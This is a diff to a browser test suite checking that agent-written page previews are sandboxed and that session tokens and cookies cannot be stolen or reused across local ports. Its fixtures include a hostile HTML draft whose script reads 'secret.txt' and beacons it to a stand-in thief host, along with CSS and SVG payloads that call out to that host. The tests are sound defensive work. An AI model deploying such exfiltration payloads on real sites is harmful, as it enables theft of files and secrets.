@@ -3,6 +3,7 @@ import type { Page, Request } from 'playwright-core';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { theater } from './support/bakery';
 import { house } from './support/house';
+import type { Project } from './support/project';
 import type { Server } from './support/server';
 import { Stage } from './support/stage';
 import { thief, type Thief } from './support/thief';
@@ -36,8 +37,8 @@ const hostile = (thief: string): string => `<!doctype html><html lang="en"><head
 <form method="post" action="/api/session"><button autofocus>Order</button></form>
 <p>This is all.</p></body></html>`;
 
-/** A theater whose only round ships this page. */
-async function shipped(html: string): Promise<{ server: Server; run: string }> {
+/** A theater whose only round has this page, which ends like this. */
+async function shipped(html: string, status = 'shipped'): Promise<{ server: Server; run: string; project: Project }> {
   const project = aProject();
   theater(project, 'single', 'play');
   const judges = ['critic', 'brand', 'a11y', 'copy'].map((role) => `<PANELIST role="${role}" score="9"></PANELIST>`);
@@ -51,8 +52,8 @@ async function shipped(html: string): Promise<{ server: Server; run: string }> {
   });
   const server = await serve(project);
   const run = await server.begin();
-  expect((await server.closed(run)).status).toBe('shipped');
-  return { server, run };
+  expect((await server.closed(run)).status).toBe(status);
+  return { server, run, project };
 }
 
 /** What a tab asked for and was answered, from now on: what the browser stopped was never sent. */
@@ -60,6 +61,13 @@ function sent(page: Page): Request[] {
   const all: Request[] = [];
   page.on('response', (response) => all.push(response.request()));
   return all;
+}
+
+/** Where a draft is shown, as a person would find it who opens its frame by itself. */
+async function addressOf(server: Server, run: string, round: string): Promise<string> {
+  const sent = await server.ask(server.at(`runs/${run}/rounds/${round}/preview`), { redirect: 'manual' });
+  expect(sent.status).toBe(303);
+  return sent.headers.get('location') ?? '';
 }
 
 /** Gives whatever might still come the time to come: another page is asked for and shown after it. */
@@ -95,7 +103,10 @@ describe('a page that an agent wrote', () => {
     expect(await page.locator('.preview iframe').getAttribute('sandbox')).toBe('');
     expect(await page.frameLocator('.preview iframe').locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
     const asked = all.filter((request) => request.frame() !== page.mainFrame());
-    expect(asked.map((request) => new URL(request.url()).pathname)).toEqual([server.at(`runs/${run}/rounds/1/preview`)]);
+    expect(asked.map((request) => new URL(request.url()).pathname)).toEqual([
+      server.at(`runs/${run}/rounds/1/preview`),
+      expect.stringMatching(/^\/preview\/.*\/draft\.html$/),
+    ]);
     expect(page.url(), 'we are still where we were').toBe(`${server.address}/#/runs/${run}`);
     expect(page.context().pages()).toHaveLength(1);
     expect(other.loot).toEqual([]);
@@ -108,13 +119,13 @@ describe('a page that an agent wrote', () => {
     for (const round of ['1', 'shipped']) {
       await page.goto('about:blank');
       const all = sent(page);
-      const answer = await page.goto(`${server.address}${server.at(`runs/${run}/rounds/${round}/preview`)}`);
+      const answer = await page.goto(`${server.address}${await addressOf(server, run, round)}`);
       expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
       await page.getByText('This is all.').waitFor();
       await settle(page, server);
       expect(await page.locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
       const asked = all.map((request) => new URL(request.url()).pathname).filter((path) => path !== '/favicon.ico');
-      expect(asked).toEqual([server.at(`runs/${run}/rounds/${round}/preview`)]);
+      expect(asked).toEqual([expect.stringMatching(/^\/preview\/.*\/draft\.html$/)]);
     }
     expect(page.context().pages()).toHaveLength(1);
     expect(other.loot).toEqual([]);
@@ -123,8 +134,10 @@ describe('a page that an agent wrote', () => {
   test('is text wherever it is not in a frame', async () => {
     const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
     const page = await visit(server, { may: STOPPED });
+    const half = await page.evaluate(() => localStorage.getItem('tribunal.key'));
     for (const rest of [`runs/${run}/rounds/1/artifact`, `runs/${run}/cues`]) {
-      const answer = await page.goto(`${server.address}${server.at(rest)}`).catch(() => null);
+      const answer = await page.goto(`${server.address}${server.at(rest)}?key=${half}`).catch(() => null);
+      if (answer) expect(answer.status()).toBe(200);
       // NDJSON is saved, not shown; text is shown as text.
       if (answer) expect(answer.headers()['content-type']).toMatch(/^text\/plain/);
       expect(await page.locator('h1').count()).toBe(0);
@@ -206,10 +219,68 @@ test('the token is nowhere that a script could find it', async () => {
   for (const [place, text] of Object.entries(found)) expect(text, place).not.toContain(server.token);
   expect(found.cookie).toBe('');
   const [cookie] = await page.context().cookies();
-  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', value: server.token });
+  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
+  expect(cookie?.value).not.toContain(server.token);
+  expect(cookie?.expires, 'it ends').toBeLessThan(Date.now() / 1000 + 8 * 24 * 3600);
 
   const stranger = await page.context().browser()?.newPage();
   await stranger?.goto(server.address);
   await stranger?.getByRole('heading', { name: 'This browser is not signed in' }).waitFor();
   await stranger?.close();
+});
+
+test('what another server of this machine is given opens nothing', async () => {
+  const project = aProject();
+  theater(project, 'seats', 'play');
+  const server = await serve(project);
+  const page = await visit(server);
+  await page.getByText('No runs yet').waitFor();
+  // Browsers do not tell the ports of one host apart: the cookie goes to whoever listens there.
+  const got = page.waitForRequest(`http://127.0.0.1:${other.port}/page`);
+  other.page('/page', '<!doctype html><title>Elsewhere</title>');
+  await page.goto(`http://127.0.0.1:${other.port}/page`);
+  const cookie = (await (await got).allHeaders()).cookie ?? '';
+  expect(cookie, 'so that this test means something').toContain(`tribunal_${server.port}=`);
+  expect(cookie).not.toContain(server.token);
+  const value = cookie.replace(/^.*?=/, '');
+  for (const headers of [{ cookie }, { cookie, 'x-tribunal-key': value }, { authorization: `Bearer ${value}` }]) {
+    const answer = await fetch(`${server.address}/api/session`, { headers: headers as Record<string, string> });
+    expect(answer.status).toBe(401);
+  }
+  // The person who was here all the time still is.
+  await page.goto(server.address);
+  await page.getByText('No runs yet').waitFor();
+});
+
+describe('a page beside the project’s files', () => {
+  const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
+  const draft = (thief: string): string => `<!doctype html><html lang="en"><head><title>Bread</title>
+<meta name="referrer" content="unsafe-url"><link rel="stylesheet" href="art/bread.css">
+<script>fetch('secret.txt').then((r) => r.text()).then((text) => { new Image().src = '${thief}/loot?' + text; });</script>
+</head><body><h1>Bread</h1><img id="ours" src="art/bread.svg" alt=""><img id="hidden" src=".env" alt=""><img id="text" src="secret.txt" alt="">
+<img src="${thief}/picture.png" alt=""><iframe src="secret.txt" title="inside"></iframe><object data="secret.txt"></object>
+<p id="styled">This is all.</p></body></html>`;
+
+  test('shows them, and can neither read them nor send them away', async () => {
+    // Its links lead to nothing that there is, so it does not ship; it is shown all the same.
+    const { server, run, project } = await shipped(draft(`http://127.0.0.1:${other.port}`), 'below_threshold');
+    const rule = `@import url(http://127.0.0.1:${other.port}/more.css); #styled { color: rgb(1, 2, 3); background: url(http://127.0.0.1:${other.port}/spy.png) }`;
+    project.write('art/bread.css', rule);
+    project.write('art/bread.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><script>fetch("/api/session")</script></svg>');
+    project.write('secret.txt', 'TOP SECRET');
+    project.write('.env', PIXEL.toString());
+    const page = await visit(server, { may: STOPPED });
+    const all = sent(page);
+    await Stage.open(page, server, run);
+    const frame = page.frameLocator('.preview iframe');
+    await frame.getByText('This is all.').waitFor();
+    await settle(page, server);
+    const widthOf = (id: string): Promise<number> => frame.locator(id).evaluate((img) => (img as HTMLImageElement).naturalWidth);
+    expect(await frame.locator('#styled').evaluate((text) => getComputedStyle(text).color), 'the style sheet holds').toBe('rgb(1, 2, 3)');
+    expect(await widthOf('#ours'), 'the picture is seen').toBe(7);
+    expect([await widthOf('#hidden'), await widthOf('#text')]).toEqual([0, 0]);
+    expect(other.loot, 'nothing went elsewhere').toEqual([]);
+    const asked = all.filter((request) => request.frame() !== page.mainFrame() && new URL(request.url()).pathname.includes('secret'));
+    for (const request of asked) expect((await request.response())?.status()).toBe(404);
+  });
 });
